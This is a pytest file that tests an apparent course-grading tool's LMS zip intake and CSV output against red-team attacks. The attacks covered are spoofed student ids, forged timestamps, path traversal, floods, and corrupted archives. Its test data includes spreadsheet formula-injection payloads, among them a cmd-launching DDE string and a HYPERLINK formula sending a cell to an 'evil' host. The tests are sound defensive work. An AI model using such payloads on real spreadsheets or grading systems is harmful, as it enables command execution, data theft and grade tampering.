"""Attacks on the LMS intake and the CSV files the grader writes (the red team's F1-F6).

Each test builds the zip an attacker would upload through the LMS and calls the intake
directly (no grading), so the whole file runs in about a second."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest

from optreg.grading.lms import MAX_FILES, write_export
from optreg.grading.runner import write_grades_csv
from optreg.grading.submissions import clean_text, csv_cell, intake

A = "01_optimizers"
ON_TIME = (2026, 3, 1, 12, 0, 0)  # the zip entry's time: the LMS's record of the upload
LATE = (2026, 3, 3, 9, 30, 0)


def make_zip(path: Path, members: dict[str, tuple[str, tuple] | str]) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        for name, value in members.items():
            text, when = value if isinstance(value, tuple) else (value, ON_TIME)
            zf.writestr(zipfile.ZipInfo(name, date_time=when), text)
    return path


def run_intake(tmp_path: Path, members: dict) -> tuple[dict, list[str]]:
    archive = make_zip(tmp_path / "download.zip", members)
    subs, warnings = intake(archive, A, tmp_path / "unpacked")
    return {s.student_id: s for s in subs}, warnings


# F6: the submission time is the LMS's, never a timestamp.txt the student uploaded


def test_a_students_timestamp_txt_does_not_set_her_time_in_a_canvas_zip(tmp_path):
    subs, _ = run_intake(
        tmp_path,
        {
            f"smithalice_10001_500_{A}.ipynb": ("{}", ON_TIME),
            f"doeeve_late_10002_501_{A}.ipynb": ("{}", LATE),
            "doeeve_late_10002_502_timestamp.txt": ("2020-01-01 00:00:00.000000 UTC", LATE),
        },
    )
    assert subs["10002"].submitted_at == "2026-03-03 09:30:00 UTC"
    assert subs["10002"].late and not subs["10001"].late  # Canvas' _late_ flag is kept
    assert subs["10001"].submitted_at == "2026-03-01 12:00:00 UTC"


def test_a_students_timestamp_txt_does_not_set_her_time_in_a_moodle_zip(tmp_path):
    folder = "Eve Doe_10002_assignsubmission_file_"
    subs, _ = run_intake(
        tmp_path,
        {
            f"{folder}/{A}.ipynb": ("{}", LATE),
            f"{folder}/timestamp.txt": ("2020-01-01 00:00:00.000000 UTC", LATE),
        },
    )
    assert subs["10002"].submitted_at == "2026-03-03 09:30:00 UTC"


def test_timestamp_txt_is_trusted_only_in_nbgrader_submitted_layout(tmp_path):
    stamp = "2026-03-01 08:00:00.000000 UTC"
    student_repos = tmp_path / "classroom"  # GitHub Classroom: the student's own files
    (student_repos / "eve").mkdir(parents=True)
    (student_repos / "eve" / f"{A}.ipynb").write_text("{}")
    (student_repos / "eve" / "timestamp.txt").write_text(stamp)
    (subs,), _ = intake(student_repos, A, tmp_path / "u1")
    assert subs.submitted_at is None
    submitted = tmp_path / "submitted" / "eve" / A  # where `nbgrader collect` writes
    submitted.mkdir(parents=True)
    (submitted / f"{A}.ipynb").write_text("{}")
    (submitted / "timestamp.txt").write_text(stamp)
    (subs,), _ = intake(tmp_path / "submitted", A, tmp_path / "u2")
    assert subs.submitted_at == stamp


# F1: a Moodle full name cannot claim a classmate's id


def test_moodle_id_is_the_last_one_of_the_folder_name(tmp_path):
    subs, _ = run_intake(
        tmp_path,
        {
            f"Alice Smith_10001_assignsubmission_file_/{A}.ipynb": "{}",
            f"Eve_10001_assignsubmission_file__10002_assignsubmission_file_/{A}.ipynb": "{}",
        },
    )
    assert sorted(subs) == ["10001", "10002"]
    assert subs["10001"].name == "Alice Smith" and subs["10001"].problem is None
    assert subs["10002"].name == "Eve_10001_assignsubmission_file_"
    assert subs["10002"].problem is None and not subs["10001"].notes


def test_two_names_claiming_one_moodle_id_are_both_refused(tmp_path):
    alice = f"Alice Smith_10001_assignsubmission_file_/{A}.ipynb"
    eve = f"Eve_10001_assignsubmission_file_/{A}.ipynb"
    subs, _ = run_intake(tmp_path, {alice: "{}", eve: ("{}", LATE)})
    problem = subs["10001"].problem
    assert problem and alice in problem and eve in problem and "refused both" in problem
    assert not any("resubmitted" in n for n in subs["10001"].notes)


def test_an_ambiguous_moodle_flat_file_is_refused_by_name(tmp_path):
    evil = f"Eve_10001_assignsubmission_file__10002_assignsubmission_file_{A}.ipynb"
    subs, _ = run_intake(
        tmp_path, {f"Alice Smith_10001_assignsubmission_file_{A}.ipynb": "{}", evil: "{}"}
    )
    for sid in ("10001", "10002"):  # both are invalid rows, named, not silently dropped
        assert evil in subs[sid].problem and "10001, 10002" in subs[sid].problem


def test_two_unpacked_moodle_folders_with_one_id_are_both_refused(tmp_path):
    for name in ("Alice Smith_10001_assignsubmission_file_", "Eve_10001_assignsubmission_file_"):
        (tmp_path / "moodle" / name).mkdir(parents=True)
        (tmp_path / "moodle" / name / f"{A}.ipynb").write_text("{}")
    (sub,), _ = intake(tmp_path / "moodle", A, tmp_path / "u")
    assert "Alice Smith_10001" in sub.problem and "Eve_10001" in sub.problem


# F3: Canvas names with "_", ids read from the right, no generic fallback


def test_canvas_name_with_underscore_keeps_its_ids(tmp_path):
    subs, _ = run_intake(tmp_path, {f"o_brien_10003_502_{A}.ipynb": "{}"})
    assert list(subs) == ["10003"] and subs["10003"].name == "o_brien"
    assert subs["10003"].notebook.name == f"{A}.ipynb"


def test_canvas_entry_that_reads_as_two_students_is_refused(tmp_path):
    evil = f"x_10001_999999_10002_501_{A}.ipynb"
    subs, _ = run_intake(tmp_path, {"smithalice_10001_500_Assignment1.ipynb": "{}", evil: "{}"})
    assert evil in subs["10001"].problem and evil in subs["10002"].problem
    assert subs["10001"].notebook.name == "Assignment1.ipynb"  # hers, not Eve's, was kept


def test_no_generic_layout_inside_a_canvas_zip(tmp_path):
    with pytest.raises(ValueError, match="10005_01_optimizers.ipynb"):
        run_intake(tmp_path, {f"smithalice_10001_500_{A}.ipynb": "{}", f"10005_{A}.ipynb": "{}"})


# F4: a malformed member makes only its student invalid


def bad_crc_zip(path: Path) -> Path:
    make_zip(path, {f"smithalice_10001_500_{A}.ipynb": "{}", f"evee_10002_501_{A}.ipynb": "A" * 64})
    data = path.read_bytes()
    path.write_bytes(data.replace(b"A" * 64, b"B" * 64))  # stored: the bytes lie, the CRC not
    return path


@pytest.mark.parametrize(
    ("good", "evil"),
    [  # Canvas flat file whose file part is '..'; a component longer than a file name may
        # be; a file where a folder must go
        ("smithalice_10001_500_", {"evee_10002_501_..": "x"}),
        ("10001/", {f"10002/{'a' * 300}/x.ipynb": "x"}),
        ("10001/", {"10002/x": "x", "10002/x/y.ipynb": "x"}),
    ],
    ids=["dotdot", "long-component", "file-and-folder"],
)
def test_a_malformed_member_makes_only_its_student_invalid(tmp_path, good, evil):
    subs, _ = run_intake(tmp_path, {f"{good}{A}.ipynb": "{}", **evil})
    assert subs["10001"].problem is None and subs["10001"].notebook is not None
    assert "10002" in subs and "refused" in subs["10002"].problem
    unpacked = (tmp_path / "unpacked").resolve()
    assert all(unpacked in p.resolve().parents for p in unpacked.rglob("*"))


def test_a_member_with_a_bad_crc_makes_only_its_student_invalid(tmp_path):
    archive = bad_crc_zip(tmp_path / "crc.zip")
    subs = {s.student_id: s for s in intake(archive, A, tmp_path / "u")[0]}
    assert subs["10001"].problem is None
    assert "BadZipFile" in subs["10002"].problem and "CRC" in subs["10002"].problem
    assert not list((tmp_path / "u" / "10002").glob("*.ipynb"))  # nothing half-written kept


def test_a_flood_of_files_makes_only_its_student_invalid(tmp_path):
    flood = {f"10002/f{i}.txt": "" for i in range(MAX_FILES + 1)}
    subs, _ = run_intake(tmp_path, {f"10001/{A}.ipynb": "{}", f"10002/{A}.ipynb": "{}", **flood})
    assert subs["10001"].problem is None
    assert f"more than {MAX_FILES}" in subs["10002"].problem
    assert not (tmp_path / "unpacked" / "10002").exists()  # nothing of it was extracted


# F2: spreadsheet formulas and bidi controls in the CSVs


def test_csv_cell_neutralises_formulas_but_not_numbers():
    for text in ("=2+5+cmd|' -c calc'!A0", "+SUM(1)", "-2+3", "@SUM(1+1)", "\tx", "\u202e=1"):
        assert csv_cell(text) == "'" + clean_text(text)
    assert csv_cell("\rx") == "?x"  # a carriage return is no control character any more
    for number in ("-1.5", "+3", "-0.25e-3", "12", "Alice"):
        assert csv_cell(number) == number
    assert clean_text("\u202eecilA\u2066x\u2069") == "ecilAx"


def test_every_grade_csv_quotes_a_formula_name(tmp_path):
    row = {
        "student_id": "10004",
        "assignment": A,
        "name": '=HYPERLINK("http://evil/"&A1)',
        "score": -1.5,
        "max_score": 16.0,
        "status": "graded",
        "message": "@SUM(1)",
    }
    write_grades_csv(tmp_path / "grades.csv", [row])
    written = next(csv.DictReader(io.StringIO((tmp_path / "grades.csv").read_text())))
    assert written["name"].startswith("'=") and written["message"] == "'@SUM(1)"
    assert written["score"] == "-1.5"
    for lms, column in (("canvas", 0), ("moodle", 1)):
        sheet = list(csv.reader(io.StringIO(write_export(lms, tmp_path, [row]).read_text())))
        assert sheet[-1][column] == "'" + row["name"]


# F5: Canvas' latest attempt counts, the -N suffix only breaks ties


def test_canvas_latest_attempt_beats_a_students_own_suffix(tmp_path):
    subs, _ = run_intake(
        tmp_path,
        {
            f"smithalice_10001_500_{A}.ipynb": "new",
            f"smithalice_10001_400_{A}-7.ipynb": "old",
        },
    )
    assert subs["10001"].notebook.read_text() == "new"
    assert "smithalice_10001_400" in subs["10001"].notes[0]
